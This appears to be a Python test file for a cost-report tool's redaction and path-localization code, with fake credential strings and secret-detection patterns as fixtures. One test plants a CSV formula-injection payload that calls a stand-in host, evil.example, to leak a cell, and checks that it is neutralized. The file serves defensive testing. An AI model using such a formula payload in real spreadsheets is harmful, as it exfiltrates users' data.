          "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp", "xoxp-12345-67890-abcdef1234567890",
          "sk-proj-AbCdEf0123456789GhIjKlMnOpQrStUvWxYz_9", "sk-" + "aB1cD2" * 8,
          "AIzaSyA-1234567890abcdefghijklmnopqrstu",
          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
          "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7x+9/abc\n-----END RSA PRIVATE KEY-----",
          "gho_" + "Qw3rTy" * 6, "sk-T3BlbkFJ" + "x7Yq2LmN9pR4sV8w" * 2 + "Ab12Cd34Ef56Gh78",
          "sk-svcacct-" + "Zq9_Xw8-Vu7" * 4, "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
          "-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkqhkiG9w0BAQEFAASC -----END PRIVATE KEY-----"]
#: Ordinary billing values: resource ids, ARNs, SKU and rate codes, hashes, account ids, base64 tag values, and
#: names that start like a token
ORDINARY = ["arn:aws:ec2:us-east-1:123456789012:instance/i-0abcd1234ef567890", "vol-049df61146c4d7901",
            "DQ578CGN99KG6ECF", "6FMVR6YKXMJ3QCDQ.JRTCKXETXF.6YS6EN2CT7", "AKIA1234", "XAKIAIOSFODNN7EXAMPLE",
            "AKIAIOSFODNN7EXAMPLEX", "01ABCD-23EFGH-45IJKL", "6F81-5844-456A",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "eyJ0ZWFtIjoidmlzaW9uIn0=",
            "sk-learn-nightly-batch-2026", "disk-Standard_LRS-P30-Premium0123abcXYZ", "xoxo-hugs-and-kisses-forever",
            "ghp_runner_pool", "ghr-" + "a1B2" * 10, "/subscriptions/1b2c3d4e-0000-1111-2222-333344445555/"
            "resourceGroups/rg-vision/providers/Microsoft.Compute/virtualMachines/vm-gpu-01",
            "projects/ml-prod-271828/zones/us-central1-a/instances/trainer-7f9c", "hooks.slack.com/services/",
            # names and tags that look like a token's prefix but not its format (blanked before 2026-12-05)
            "sk-ProdCluster-2026-westeurope", "sk-Learn-Nightly-Batch-2026", "xoxo-campaign-2026-summer",
            "xoxb-release-2026-rollout-42", "ASIASOUTHEASTPROD001", "ASIAPACIFICPRODRG01X",
            "/SUBSCRIPTIONS/X/RESOURCEGROUPS/ASIASOUTHEASTPROD001/P", "AKIA0123456789ABCDEF", "sk-" + "a1B2c3D4" * 2]


@pytest.mark.parametrize("token", TOKENS)
def test_credential_shaped_values_are_redacted_from_report_text(token):
    """Tag values AKIAIOSFODNN7EXAMPLE and ghp_... reached the page ~100 times (tables, chart JSON, the .ipynb, the
    CSV downloads): SECRET_VALUE knew the shapes but only chose environment variables to strip."""
    assert report.is_secret("SOME_VALUE", token)  # the same formats SECRET_VALUE recognizes
    page = (f'<td>{token}</td><script>var spec={{"data":{{"values":[{{"tag":{json.dumps(token)}}}]}}}};</script>'
            f' tag={token}, ({token})')
    out = report.redact_output(page, [])
    assert out.count("[redacted]") == 4 and "AKIAIOSFODNN7" not in out and token not in out, out
    (csv,) = _csv_links(nb.csv_link(pd.DataFrame({"tag": [token, "ok"], "cost": [-1.5, 2.0]}), "t.csv"))
    assert token not in csv and "[redacted]" in csv and "-1.5" in csv  # in the kernel, before base64


def test_slack_webhook_keeps_its_host_and_ordinary_values_are_not_redacted():
    url = "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
    assert report.redact(f"see {url}.", []) == "see https://hooks.slack.com/services/[redacted]."
    for value in ORDINARY:
        assert report.redact(f"<td>{value}</td> {json.dumps(value)}", []) == f"<td>{value}</td> {json.dumps(value)}"


def test_token_redaction_keeps_ordinary_values_and_prose_after_a_pem_header():
    """The token patterns blanked ordinary values -- ``sk-ProdCluster-2026-westeurope``, ``sk-Learn-Nightly-Batch-
    2026``, ``xoxo-campaign-2026-summer``, ``ASIASOUTHEASTPROD001`` (an upper-cased Azure resource group) -- and the
    PEM pattern ran on through letters and spaces after a header: ``rotated on 2026 by ops team`` was lost."""
    for value in ("sk-ProdCluster-2026-westeurope", "sk-Learn-Nightly-Batch-2026", "xoxo-campaign-2026-summer",
                  "ASIASOUTHEASTPROD001", "/SUBSCRIPTIONS/X/RESOURCEGROUPS/ASIASOUTHEASTPROD001/P"):
        assert report.redact_tokens(value) == value
    note = "-----BEGIN PRIVATE KEY----- rotated on 2026 by ops team, see runbook"
    assert report.redact_tokens(note) == "[redacted] rotated on 2026 by ops team, see runbook"
    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R4/M2bS1+fWIcPm15j9w=\n"
    # no END line: the header and its base64 lines go, the prose line after them stays
    assert report.redact_tokens(f"-----BEGIN PRIVATE KEY-----\n{body}rotated on 2026 by ops\nnext") == (
        "[redacted]\nrotated on 2026 by ops\nnext")
    # as JSON writes it (chart data, the .ipynb), closed by its quote
    doc = json.dumps({"k": f"-----BEGIN EC PRIVATE KEY-----\n{body.strip()}", "owner": "ops"})
    assert json.loads(report.redact_tokens(doc)) == {"k": "[redacted]", "owner": "ops"}
    # with an END line: everything from BEGIN to END, and nothing after it
    block = f"-----BEGIN RSA PRIVATE KEY-----\n{body}-----END RSA PRIVATE KEY-----"
    assert report.redact_tokens(f"key: {block}, rotated by ops") == "key: [redacted], rotated by ops"
    # the real shapes of each tightened format still go
    for token in ("AKIAIOSFODNN7EXAMPLE", "ASIAY34FZKBOKMUTVV7A", "ABIAJ2Q3R4S5T6U7V2W3", "ACCAZZZZYYYYXXXX2345",
                  "sk-" + "T3BlbkFJ" + "aB1cD2eF3gH4" * 3, "sk-proj-" + "Ab1_Cd2-Ef3" * 4, "sk-admin-" + "Xy9" * 8,
                  "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx", "xoxp-12345-67890-abcdef1234567890",
                  "ghp_" + "aB3dE6" * 6, "gho_" + "Qw3rTy" * 6, "ghs_" + "Zx9Yw8" * 6,
                  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"):
        assert report.redact_tokens(f"tag={token}; ({token})") == "tag=[redacted]; ([redacted])", token
    for near in ("XAKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE9", "AKIAIOSFODNN7EXAMPL8"):  # 8 is no base32 digit
        assert report.redact_tokens(near) == near


@pytest.mark.parametrize("unit", ["eyJ", "eyJaaaaaaaaa.", "sk-", "xoxb-", "ghp_", "AKIA", "github_pat_",
                                  "-----BEGIN ", "-----BEGIN RSA PRIVATE KEY-----", "hooks.slack.com/services/",
                                  "sk-proj-", "xoxb-1-", "xoxb-12", "ACCA", "-----BEGIN PRIVATE KEY-----\nAAAA ",
                                  "-----BEGIN PRIVATE KEY-----\\nAAAA\\n", "-----BEGIN PRIVATE KEY----- AAA"])
def test_token_redaction_is_linear_on_hostile_megabytes(unit):
    text = unit * (1_000_000 // len(unit))
    t0 = time.monotonic()
    report.redact_tokens(text)
    assert time.monotonic() - t0 < 5


def test_localize_paths_rewrites_markdown_escaped_paths(tmp_path):
    """nb.text() stores a path escaped in the .ipynb (``\\/tmp\\/rev\\-html\\/in\\/costs\\.csv``): the .ipynb pass did
    not recognize it, and the page showed ``<strong>/tmp/rev-html/in/costs.csv</strong>``."""
    root = tmp_path / "project"
    src = f"{tmp_path}/in/my_costs-2026.csv"
    md = nb.md(f"Read from **{nb.text(src)}** and {nb.code(src)}; {nb.text('/per/month')}").data
    assert f"**{str(tmp_path)[:4]}" not in md and "**\\/" in md  # stored escaped
    out = report.localize_paths(md, root)
    assert out == ("Read from **\\.\\.\\/in\\/my\\_costs\\-2026\\.csv** and `../in/my_costs-2026.csv`; "
                   "\\/per\\/month")
    assert report.localize_paths(r"\/nonexistent-top\/a\/b x\/tmp\/y", root) == r"\/nonexistent-top\/a\/b x\/tmp\/y"
    assert report.localize_paths(out, root) == out  # idempotent


def test_localize_html_rewrites_page_text_not_scripts_or_data_uris(tmp_path):
    root = tmp_path / "project"
    page = (f'<p><strong>{tmp_path}/in/costs.csv</strong> <a href="file://{tmp_path}/x.html">x</a></p>'
            f'<script>var r=a/run/g;var p="{tmp_path}/kept";</script><style>.a{{background:url(/usr/x/y.png)}}</style>'
            f'<img src="data:image/png;base64,AAAA+/tmp/abc+/usr/lib/AAA=">')
    out = report.localize_html(page, root)
    assert out.startswith('<p><strong>../in/costs.csv</strong> <a href="../x.html">x</a></p><script>var r=a/run/g;')
    assert out.split("</p>", 1)[1] == page.split("</p>", 1)[1]  # script, style and data: URI as they were


def test_localize_html_is_linear_on_chart_data_pages(tmp_path):
    """The reviewer's pages: per ``/home/``, ``/dev/``... the pre-check searched back over the whole page for the
    last ``<script``, ``<!--`` and ``;base64,`` -- 64k paths in 2 MB of chart JSON took 17.6 s, 30k ECS service
    ARNs of a ``dev`` cluster (``service/dev/api-1``, which is no path at all) 12.3 s."""
    root = tmp_path / "project"
    pages = ["<html><body><p>hi</p><script type='application/json'>" + '{"path":"/home/a/b.csv","v":1},' * 64_000
             + "</script></body></html>",
             "<html><body><p>report</p><script type='application/vnd.vegalite.v5+json'>{\"datasets\":{\"d\":["
             + ",".join(f'{{"ResourceId":"arn:aws:ecs:us-east-1:111122223333:service/dev/api-{i}","cost":1.5}}'
                        for i in range(30_000)) + "]}}</script></body></html>",
             "<p>x</p>" + "<script>/tmp/a/b " * 100_000,  # never closed: the rest of the page is script
             "<!-- /tmp/a/b " * 100_000 + '<p>"/tmp/x/y"</p>']
    for page in pages:
        t0 = time.monotonic()
        out = report.localize_html(page, root)
        assert time.monotonic() - t0 < 5
        assert out == page
    t0 = time.monotonic()
    page = "<p>/tmp/a/b.csv</p><script>x</script>" * 20_000
    out = report.localize_html(page, Path("/tmp/a"))
    assert time.monotonic() - t0 < 5 and out == "<p>b.csv</p><script>x</script>" * 20_000


def test_localize_html_rewrites_only_paths_at_a_path_boundary(tmp_path):
    root = tmp_path / "project"
    arn = "arn:aws:ecs:us-east-1:111122223333:service/dev/api-1"
    page = (f"<td>{arn}</td><td>x/tmp/y/z a-/tmp/q/r</td><td title=\"{tmp_path}/t.csv\">({tmp_path}/p.csv)</td>"
            f"<td>={tmp_path}/e.csv '{tmp_path}/s.csv'</td>")
    out = report.localize_html(page, root)
    assert out == ("<td>arn:aws:ecs:us-east-1:111122223333:service/dev/api-1</td><td>x/tmp/y/z a-/tmp/q/r</td>"
                   "<td title=\"../t.csv\">(../p.csv)</td><td>=../e.csv '../s.csv'</td>")
    assert report.localize_html(f"<p>{arn}</p><!-- {tmp_path}/c -->", root) == f"<p>{arn}</p><!-- {tmp_path}/c -->"


def test_report_page_is_safe_end_to_end(tmp_path):
    """One report through the runner: a path passed through nb.text() is relative in the page and the .ipynb, a
    file named by a data value is not read into the page, a credential-shaped tag value is redacted everywhere
    (page, .ipynb, CSV download) and a formula-shaped one cannot run in a spreadsheet."""
    src = f"{tmp_path}/in/costs.csv"
    token = "ghp_" + "aB3dE6" * 6
    body = (
        "import pandas as pd\nimport finops_kit.notebook as nb\nfrom IPython.display import display\n"
        f"src = {src!r}\n"
        "display(nb.md(f'Read from **{nb.text(src)}** and {nb.code(src)}'))\n"
        "display(nb.md('{team}', team='Makefile'))\n"
        f"df = pd.DataFrame({{'tag_value': ['=HYPERLINK(\"http://evil.example/?x=\"&A2)', {token!r}] * 20, "
        "'cost': [-12.5, 1.0] * 20})\n"
        "display(nb.table(df))")
    book = _tiny_notebook(tmp_path / "safe.ipynb", body)
    [r] = report.run_jobs([_job(book)], tmp_path / "out", timeout_cell=120, timeout_notebook=240)
    assert r.status == "ok", r.error
    page = (tmp_path / "out" / r.html).read_text(encoding="utf-8")
    ipynb = (tmp_path / "out" / r.ipynb).read_text(encoding="utf-8")
    for text in (page, ipynb):
        # only relative: from a project under /work, the temp folder is ../../tmp/..., which contains the absolute
        # path's text after the '..'
        for absolute in (str(tmp_path), str(tmp_path).replace("/", "\\\\/")):
            assert re.search(r"(?<!\.\.)" + re.escape(absolute), text) is None
        assert token not in text and "[redacted]" in text
        assert "make demo" not in text  # the Makefile's text
    assert "<strong>../../../" in page or "<strong>.." in page
    (csv,) = _csv_links(page)
    assert token not in csv and "\n\"'=HYPERLINK" in csv and "-12.5" in csv


def test_localize_paths_after_an_ansi_colour_code(tmp_path):
    """IPython tracebacks colour file names: ``\\x1b[0;32m/tmp/...`` kept the absolute path (the ``m`` looked like
    a word before it)."""
    root = tmp_path / "project"
    tb = (f"\x1b[0;31m---------\x1b[0m\n\x1b[0;31mValueError\x1b[0m  Traceback (most recent call last)\n"
          f"File \x1b[0;32m{root}/notebooks/x.py:12\x1b[0m, in \x1b[0;36mf\x1b[0;34m(x)\x1b[0m\n"
          f"\x1b[32m{tmp_path}/lib/site.py\x1b[39m\x1b[1;34m/per/month\x1b[0m")
    out = report.localize_paths(tb, root)
    assert str(tmp_path) not in out
    assert "File \x1b[0;32mnotebooks/x.py:12\x1b[0m" in out and "\x1b[32m../lib/site.py\x1b[39m" in out
    assert "\x1b[1;34m/per/month" in out  # not a local path: left alone


def test_quality_line_with_only_info_findings_says_no_findings(tmp_path):
    """A FOCUS input records only 'info' (the version it was read as): the header said "Data quality: " and
    nothing else."""
    from finops_kit.quality import summary_line

    wh = str(tmp_path / "wh.duckdb")
    fk.ingest(str(Path(__file__).parent / "fixtures" / "focus" / "quirky_focus_1_2.csv"), warehouse=wh,
              progress=False)
    con = fk.connect(wh, write=True)
    try:
        con.execute("DELETE FROM data_quality WHERE kind <> 'info'")
        line = summary_line(con)
        assert line.startswith("Data quality: no findings (") and "noted: detected version 4 rows (FOCUS 1." in line
        con.execute("DELETE FROM data_quality")
        assert summary_line(con).startswith("Data quality: no findings (") and "noted" not in summary_line(con)
    finally:
        con.close()


def test_escaped_backticks_do_not_hide_dollars_from_the_math_guard():
    """``nb.text("`$5` and `$6`")`` escapes the backticks, so they are no code span: the dollars must still get the
    no-math wrapper (review: without it JupyterLab's MathJax typeset '$5` and `$6' as math)."""
    made = nb.md(f"cost {nb.text('`$5` and `$6`')}").data
    assert made.startswith(f'<div class="{nb.NO_MATH}">'), made
    assert nb.md("`$5` in code only").data == "`$5` in code only"  # real code spans stay as they are


def test_key_material_in_tag_shapes_is_redacted_and_word_names_are_not():
    """A PEM key pasted into a one-line tag (spaces, no END line, cut at 256 characters) kept its whole body under
    325864d; a CSV cell or a cut-off table cell kept its last line; sk-ant-, sk-None-, sk-or- and sk-..._... keys
    were no longer redacted, and sk-proj-billing-migration-2026 (a tag value) was."""
    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC AbCdEf0123456789"
    assert report.redact_tokens(f"-----BEGIN PRIVATE KEY----- {body} tail") == "[redacted] tail"
    assert report.redact_tokens("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nAbCdEf0123456789,12.5"
                                ) == "[redacted],12.5"
    assert report.redact_tokens("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nAbCdEf0123...") == (
        "[redacted]...")
    for key in ("sk-ant-api03-AbCdEfGh1234567890AbCdEfGh1234567890-xyzXYZ12",
                "sk-None-AbCdEfGh1234567890AbCdEfGhT3BlbkFJ1234", "sk-or-v1-0123456789abcdef0123456789abcdefABCDEF",
                "sk-AbCdEfGh1234567890AbCd_EfGh"):
        assert report.redact_tokens(f"k={key};") == "k=[redacted];", key
    for name in ("sk-proj-billing-migration-2026", "sk-admin-team-dashboards-prod", "sk-proj-recommendation_engine",
                 "rg-sk-proj-data-platform-weu"):
        assert report.redact_tokens(name) == name


def test_report_kernels_leave_their_objects_out_of_the_exit_collection():
    """A report kernel's exec_lines register ``gc.freeze`` to run at exit before IPython's own exit handler
    (registered earlier, so run later): its namespace reset's full collection (60 ms of a report's heap, which the
    runner waited for) then has nothing to scan. Checked as IPython sees it: a handler registered before the
    exec_lines finds the objects frozen."""
    import subprocess
    import sys

    lines = report.KERNEL_ARGUMENTS[0].split("=", 1)[1]
    code = ("import atexit, gc\natexit.register(lambda: print('frozen', gc.get_freeze_count() > 0))\n"
            f"{lines}\nkept = [[i] for i in range(1000)]\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert out.stdout.strip() == "frozen True"
    assert subprocess.run([sys.executable, "-c", code.replace(lines, "import sys")], capture_output=True, text=True,
                          timeout=60, check=True).stdout.strip() == "frozen False"
